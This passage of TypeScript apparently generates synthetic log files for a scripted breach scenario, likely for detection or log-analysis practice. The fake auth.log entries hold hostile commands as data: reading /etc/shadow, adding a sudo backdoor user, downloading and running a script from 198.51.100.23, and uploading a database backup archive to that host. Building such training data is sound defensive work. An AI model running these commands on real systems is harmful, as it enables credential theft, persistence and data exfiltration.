    log('auth-service', at + 10, ok ? 'INFO' : 'WARN', ok ? 'login succeeded' : 'login failed', { trace_id: trace, user: name, client_ip: from.ip, country: 'ZZ', asn: STORY.attackerAsn, ...(ok ? { method: 'password', new_device: true } : { reason: random.chance(0.75) ? 'unknown_user' : 'bad_password' }), duration_ms: Number(random.logNormal(95, 0.2).toFixed(1)) }); // prettier-ignore
  }

  // What they did with it.
  const intruder = attacker('d.okafor');
  for (const name of STORY.compromised.slice(1)) {
    const from = { ...attacker(name), name };
    const start = STORY.attackEnd + random.int(3, 16) * MINUTE;
    for (const [i, uri] of [
      '/api/account',
      '/api/account/export?format=json',
      '/api/orders?limit=500',
      '/api/payment-methods',
    ].entries()) {
      access(
        start + i * 7000,
        from,
        {
          method: 'GET',
          uri,
          status: 200,
          bytes: uri.includes('export') ? random.int(180_000, 420_000) : random.int(2000, 9000),
          ms: random.logNormal(180, 0.4),
          trace: random.hex(16),
        },
        true,
      );
    }
  }
  const t = STORY.intrusion;
  const sshPid = 48_213;
  for (let i = 0; i < 3; i++)
    ssh(
      t - 40_000 + i * 9000,
      'bastion-01',
      `Failed password for d.okafor from ${intruder.ip} port ${50_100 + i} ssh2`,
      'sshd',
      sshPid - 3 + i,
    );
  ssh(t, 'bastion-01', `Accepted password for d.okafor from ${intruder.ip} port 50118 ssh2`, 'sshd', sshPid);
  ssh(
    t + 30,
    'bastion-01',
    'pam_unix(sshd:session): session opened for user d.okafor(uid=1008) by (uid=0)',
    'sshd',
    sshPid,
  );
  sudo(t + 65_000, 'bastion-01', 'd.okafor', '/usr/bin/cat /etc/shadow');
  sudo(t + 141_000, 'bastion-01', 'd.okafor', '/usr/sbin/useradd -m -s /bin/bash -G sudo svc-backup');
  secure.add(
    t + 141_300,
    `${stamp(t + 141_300)} bastion-01 useradd[48377]: new user: name=svc-backup, UID=1019, GID=1019, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/2`,
  );
  sudo(t + 233_000, 'bastion-01', 'd.okafor', '/usr/bin/curl -fsS http://198.51.100.23/a.sh -o /tmp/.a.sh');
  sudo(t + 262_000, 'bastion-01', 'd.okafor', '/usr/bin/bash /tmp/.a.sh');
  ssh(
    t + 410_000,
    'db-02',
    'Accepted publickey for svc-backup from 10.20.0.5 port 41822 ssh2: RSA SHA256:9f1c44e07ab21d6e03bb',
    'sshd',
    22_871,
  );
  sudo(t + 452_000, 'db-02', 'svc-backup', '/usr/bin/tar czf /tmp/.cache/db.tgz /var/backups/postgresql');
  sudo(t + 655_000, 'db-02', 'svc-backup', '/usr/bin/curl -T /tmp/.cache/db.tgz http://198.51.100.23/up');
  ssh(t + 900_000, 'bastion-01', 'pam_unix(sshd:session): session closed for user d.okafor', 'sshd', sshPid);

  const file = (
    name: string,
    stream: Stream,
    meta: Pick<SampleFile, 'index' | 'source' | 'sourcetype' | 'time'>,
  ): GeneratedSample['files'][number] => {
    const text = stream.text();
    return {
      file: name,
      ...meta,
      events: stream.lines.length,
      sha256: createHash('sha256').update(text).digest('hex'),
      text,
    };
  };
  return {
    files: [
      file('web.log.gz', web, {
        index: 'web',
        source: '/var/log/nginx/access.log',
        sourcetype: 'access_combined',
        time: 'web',
      }),
      file('app.ndjson.gz', app, {
        index: 'app',
        source: '/var/log/containers/shop.json',
        sourcetype: 'app:json',
        time: 'iso',
      }),
      file('secure.log.gz', secure, {
        index: 'os',
        source: '/var/log/auth.log',
        sourcetype: 'linux_secure',
        time: 'iso',
      }),
      file('kube.ndjson.gz', kube, {
        index: 'k8s',
        source: 'kube-apiserver',
        sourcetype: 'kube:objects',
        time: 'iso',
      }),
      file('postgres.log.gz', postgres, {
        index: 'db',
        source: '/var/log/postgresql/postgresql-16-main.log',
        sourcetype: 'postgresql',
        time: 'postgres',
      }),
    ],
  };
}

/** Writes the files and their manifest into a folder, and removes data files that are no longer part of it. */
export function writeSample(folder: string, sample = generateSample()): void {
  mkdirSync(folder, { recursive: true });
  for (const name of readdirSync(folder)) if (name.endsWith('.gz')) rmSync(join(folder, name));
  let bytes = 0;
  for (const { file, text } of sample.files) {
    const packed = gzipSync(text, { level: 9 });
    bytes += packed.length;
    writeFileSync(join(folder, file), packed);
  }
  const files = sample.files.map(({ text: _, ...meta }) => meta);
  writeFileSync(
    join(folder, 'manifest.json'),
    `${JSON.stringify({ version: 1, seed: SEED, spanMs: SPAN, files }, null, 2)}\n`,
  );
  const events = files.reduce((sum, { events: n }) => sum + n, 0);
  console.log(`${events.toLocaleString('en')} events, ${(bytes / 1e6).toFixed(2)} MB packed`);
  for (const { file, events: n } of files) console.log(`  ${file.padEnd(20)} ${n.toLocaleString('en')}`);
}

if (process.argv[1] !== undefined && import.meta.filename === process.argv[1]) {
  writeSample(join(import.meta.dirname, '..', 'resources', 'sample'));
}
